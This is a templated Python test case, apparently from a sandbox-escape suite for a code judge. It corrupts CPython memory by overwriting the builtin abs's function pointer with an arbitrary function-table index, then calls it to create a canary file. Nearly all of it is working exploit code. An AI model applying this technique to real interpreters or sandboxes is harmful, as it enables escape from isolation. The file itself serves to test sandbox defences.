# leak: overwrites the C function behind a builtin with the number of any function of the table, which is then called through JavaScript with no check of its signature. Escape: a host effect, or the judge calls it its own fault.
# with: whole_memory
# indexes: 4
import struct

memory = whole_memory()
# offsets in a builtin function object and in its method definition, of 32-bit CPython
M_ML, M_SELF, ML_METH = 8, 12, 4
text = b'canary-on-@TERMINAL@\0'
keep.append(text)
definition = struct.unpack_from('<I', memory, id(abs) + M_ML)[0]
struct.pack_into('<I', memory, id(abs) + M_SELF, id(text) + bytes.__basicsize__ - 1)
struct.pack_into('<I', memory, definition + ML_METH, int('@INDEX@'))


def f(x):
    abs('touch @CANARY_DIR@/canary_pointer')
    return x + 1
